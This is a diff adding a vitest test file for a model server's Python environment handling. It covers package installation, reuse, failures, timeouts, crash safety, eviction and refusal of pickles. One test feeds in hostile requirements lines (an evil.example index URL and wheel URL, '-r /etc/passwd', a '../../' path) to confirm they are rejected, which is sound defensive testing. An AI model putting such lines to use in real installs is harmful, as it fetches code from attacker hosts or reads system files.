@@ -1,0 +1,226 @@
+import { execFileSync, spawn } from 'node:child_process'
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  utimesSync,
+  writeFileSync,
+} from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, expect, it } from 'vitest'
+import { eventually, inferBody, startTestApp } from '../../src/testing/index.ts'
+import type { TestApp } from '../../src/testing/index.ts'
+import { describeWithPython, pythonModel, testPython } from './test-python.ts'
+
+/** Makes a wheel of one module. */
+const makeWheel = (folder: string, name: string, source: string): void => {
+  const script = `
+import sys, zipfile
+folder, name, source = sys.argv[1:]
+info = f"{name}-1.0.dist-info"
+with zipfile.ZipFile(f"{folder}/{name}-1.0-py3-none-any.whl", "w") as wheel:
+    wheel.writestr(f"{name}.py", source)
+    wheel.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n")
+    wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
+    wheel.writestr(f"{info}/RECORD", "")
+`
+  execFileSync(testPython ?? '', ['-c', script, folder, name, source])
+}
+
+/** A stand-in that brings the numpy of the interpreter of the tests, so that nothing is fetched. */
+const numpyStandIn = (): string => {
+  const site = execFileSync(testPython ?? '', [
+    '-c',
+    'import numpy, os; print(os.path.dirname(os.path.dirname(numpy.__file__)))',
+  ])
+  return `import sys\nsys.path.insert(0, ${JSON.stringify(site.toString().trim())})\ndel sys.modules["numpy"]\nimport numpy\n`
+}
+
+describeWithPython('the environments of Python models', () => {
+  let root: string
+  let wheels: string
+
+  beforeAll(() => {
+    root = mkdtempSync(join(tmpdir(), 'slipway-python-envs-'))
+    wheels = join(root, 'wheels')
+    mkdirSync(wheels)
+    makeWheel(wheels, 'numpy', numpyStandIn())
+    makeWheel(wheels, 'rates', 'FACTOR = 3')
+  })
+
+  afterAll(() => rmSync(root, { recursive: true }))
+
+  const flags = (dataDir: string, from = wheels): string[] => [
+    '--python',
+    testPython ?? '',
+    '--python-env',
+    'venv',
+    '--python-wheels',
+    from,
+    '--data-dir',
+    dataDir,
+    '--model-control',
+    'explicit',
+  ]
+  const models = {
+    'm/1/model.py': pythonModel('return x * rates.FACTOR', 'import rates'),
+    'm/1/requirements.txt': 'rates == 1.0  # a comment\nnumpy',
+  }
+  const reasonOf = async (app: TestApp): Promise<string> => {
+    const index = (await (await app.post('/v2/repository/index')).json()) as readonly { reason?: string }[]
+    return index[0]?.reason ?? ''
+  }
+  const environmentsIn = (dataDir: string): string[] => readdirSync(join(dataDir, 'python-envs')).sort()
+
+  it('are made of what a model requires, tell their progress, and are used again', async () => {
+    const dataDir = join(root, 'data')
+    await using app = await startTestApp({ models, flags: flags(dataDir) })
+    const loading = app.post('/v2/repository/models/m/load')
+    await eventually('the progress is told', async () =>
+      (await reasonOf(app)).startsWith('installing 2 packages: rates, numpy') ? true : undefined,
+    )
+    expect((await loading).status).toBe(200)
+    expect(await (await app.post('/v2/models/m/infer', inferBody([2]))).json()).toMatchObject({
+      outputs: [{ data: [6] }],
+    })
+    expect(environmentsIn(dataDir)).toEqual([expect.stringMatching(/^[0-9a-f]{64}$/)])
+
+    await app.post('/v2/repository/models/m/unload')
+    expect((await app.post('/v2/repository/models/m/load')).status).toBe(200)
+    expect(app.log.filter(({ event }) => event === 'python.installing')).toHaveLength(1)
+  })
+
+  it('may have packages that come with the model', async () => {
+    const dataDir = join(root, 'own-packages')
+    const wheel = readFileSync(join(wheels, 'rates-1.0-py3-none-any.whl'))
+    const own = {
+      ...models,
+      'm/1/requirements.txt': 'numpy\ncode/rates-1.0-py3-none-any.whl',
+      'm/1/code/rates-1.0-py3-none-any.whl': wheel,
+    }
+    const bare = join(root, 'numpy-alone')
+    mkdirSync(bare)
+    makeWheel(bare, 'numpy', numpyStandIn())
+    await using app = await startTestApp({ models: own, flags: flags(dataDir, bare) })
+    const loaded = await app.post('/v2/repository/models/m/load')
+    expect(loaded.status, await loaded.text()).toBe(200)
+    expect(await (await app.post('/v2/models/m/infer', inferBody([1]))).json()).toMatchObject({
+      outputs: [{ data: [3] }],
+    })
+  })
+
+  it('that can not be installed give the installer’s reason and leave nothing', async () => {
+    const dataDir = join(root, 'none')
+    const empty = join(root, 'empty')
+    mkdirSync(empty)
+    await using app = await startTestApp({ models, flags: flags(dataDir, empty) })
+    const failed = await app.post('/v2/repository/models/m/load')
+    expect(await failed.text()).toMatch(/its packages could not be installed.*No matching distribution found for rates/)
+    expect(await reasonOf(app)).toMatch(/No matching distribution found for rates/)
+    expect(environmentsIn(dataDir)).toEqual([])
+  })
+
+  it.each([
+    '--index-url https://evil.example/simple\nnumpy',
+    '-r /etc/passwd',
+    'numpy @ https://evil.example/numpy.whl',
+    '../../evil.whl',
+    'code/absent-1.0-py3-none-any.whl',
+  ])('are not made of %s', async (requirements) => {
+    const dataDir = join(root, 'hostile')
+    await using app = await startTestApp({
+      models: { ...models, 'm/1/requirements.txt': requirements },
+      flags: flags(dataDir),
+    })
+    const failed = await app.post('/v2/repository/models/m/load')
+    expect(failed.status).toBeGreaterThanOrEqual(400)
+    expect(await failed.text()).toMatch(/its requirements (can't be installed|name code\/absent)/)
+    expect(existsSync(join(dataDir, 'python-envs'))).toBe(false)
+  })
+
+  it('are given up after their time', async () => {
+    const dataDir = join(root, 'late')
+    await using app = await startTestApp({
+      models,
+      flags: [...flags(dataDir), '--serving.python.build-timeout-ms', '1s'],
+    })
+    expect(await (await app.post('/v2/repository/models/m/load')).text()).toMatch(/it took longer than 1 s/)
+    expect(environmentsIn(dataDir)).toEqual([])
+  })
+
+  it('are called off when the server stops', async () => {
+    const dataDir = join(root, 'stopped')
+    const app = await startTestApp({ models, flags: flags(dataDir) })
+    const caller = new AbortController()
+    const path = '/v2/repository/models/m/load'
+    const loading = app.fetch(path, { method: 'POST', signal: caller.signal }).catch(() => undefined)
+    await eventually('the packages are being installed', async () =>
+      (await reasonOf(app)).startsWith('installing') ? true : undefined,
+    )
+    // Why: a caller who waits for a load is answered before the server ends.
+    caller.abort()
+    await loading
+    await app.stop()
+    expect(environmentsIn(dataDir)).toEqual([])
+  })
+
+  it('are whole or not there when the server is killed in the middle', async () => {
+    const dataDir = join(root, 'killed')
+    const repository = join(root, 'killed-models')
+    for (const [path, content] of Object.entries(models)) {
+      mkdirSync(join(repository, path, '..'), { recursive: true })
+      writeFileSync(join(repository, path), content)
+    }
+    const ports = ['--port', '0', '--grpc-port', '0', '--mlflow-port', 'off']
+    const args = [...flags(dataDir), '--model-repository', repository, '--load-model', 'm', ...ports]
+    const server = spawn(process.execPath, ['bin/slipway.mjs', 'up', ...args], { stdio: 'ignore' })
+    const ended = new Promise((resolve) => server.on('exit', resolve))
+    const environments = join(dataDir, 'python-envs')
+    const begun = (): boolean =>
+      existsSync(environments) &&
+      readdirSync(environments).some(
+        (name) => name.startsWith('.') && existsSync(join(environments, name, 'bin/python')),
+      )
+    await eventually('the environment is being made', () => (begun() ? true : undefined))
+    server.kill('SIGKILL')
+    await ended
+    expect(environmentsIn(dataDir).filter((name) => /^[0-9a-f]{64}$/.test(name))).toEqual([])
+
+    await using app = await startTestApp({ models, flags: flags(dataDir) })
+    const loaded = await app.post('/v2/repository/models/m/load')
+    expect(loaded.status, await loaded.text()).toBe(200)
+    expect(environmentsIn(dataDir)).toEqual([expect.stringMatching(/^[0-9a-f]{64}$/)])
+  })
+
+  it('beyond the bound go, the least recently used first', async () => {
+    const dataDir = join(root, 'bounded')
+    const old = Array.from({ length: 4 }, (_, index) => String(index).repeat(64))
+    for (const [index, name] of old.entries()) {
+      mkdirSync(join(dataDir, 'python-envs', name), { recursive: true })
+      utimesSync(join(dataDir, 'python-envs', name), 1000 + index, 1000 + index)
+    }
+    await using app = await startTestApp({
+      models,
+      flags: [...flags(dataDir), '--serving.python.environments-max', '3'],
+    })
+    expect((await app.post('/v2/repository/models/m/load')).status).toBe(200)
+    const kept = environmentsIn(dataDir)
+    expect(kept).toHaveLength(3)
+    expect(kept).toEqual(expect.arrayContaining(old.slice(2)))
+  })
+})
+
+describeWithPython('pickles', () => {
+  it('are refused where the operator says so', async () => {
+    await using app = await startTestApp({
+      models: { 'm/1/model.py': pythonModel('return x'), 'm/1/weights.pkl': 'x' },
+      flags: ['--python', testPython ?? '', '--serving.python.pickle', 'refuse', '--model-control', 'explicit'],
+    })
+    const failed = await app.post('/v2/repository/models/m/load')
+    expect(await failed.text()).toMatch(/its file weights.pkl is a pickle or looks like one.*save the model with skops/)
+  })
+})
